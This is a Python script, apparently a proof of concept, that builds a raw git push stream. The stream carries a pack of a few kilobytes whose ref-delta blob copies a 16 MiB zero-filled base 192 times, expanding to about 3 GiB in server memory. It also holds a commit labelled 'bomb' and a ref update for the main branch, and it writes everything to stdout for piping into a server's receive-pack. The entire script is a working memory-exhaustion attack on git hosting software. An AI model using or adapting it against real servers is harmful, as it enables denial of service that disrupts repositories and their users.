"""A push of some kilobytes whose one blob unpacks to 3 GiB in memory: a base of 16 MiB and a delta that copies it 192 times."""
import hashlib, struct, sys, zlib

old = sys.argv[1]


def head(kind, size):
    out, byte = b"", kind << 4 | size & 15
    size >>= 4
    while size:
        out += bytes([byte | 128])
        byte, size = size & 127, size >> 7
    return out + bytes([byte])


def varint(number):
    out = b""
    while number > 127:
        out += bytes([number & 127 | 128])
        number >>= 7
    return out + bytes([number])


BASE = 0xFFFFFF
base = bytes(BASE)
name = hashlib.sha1(b"blob %d\0" % BASE + base).digest()
copies = 192
delta = varint(BASE) + varint(BASE * copies) + b"\xf0\xff\xff\xff" * copies
commit = b"tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\nauthor a <a@b> 1 +0000\ncommitter a <a@b> 1 +0000\n\nbomb\n"
tip = hashlib.sha1(b"commit %d\0" % len(commit) + commit).hexdigest()
objects = [
    head(3, BASE) + zlib.compress(base, 9),
    head(7, len(delta)) + name + zlib.compress(delta, 9),
    head(1, len(commit)) + zlib.compress(commit),
    head(2, 0) + zlib.compress(b""),
]
pack = b"PACK" + struct.pack(">II", 2, len(objects)) + b"".join(objects)
pack += hashlib.sha1(pack).digest()
line = f"{old} {tip} refs/heads/main\0report-status\n".encode()
sys.stdout.buffer.write(b"%04x" % (len(line) + 4) + line + b"0000" + pack)
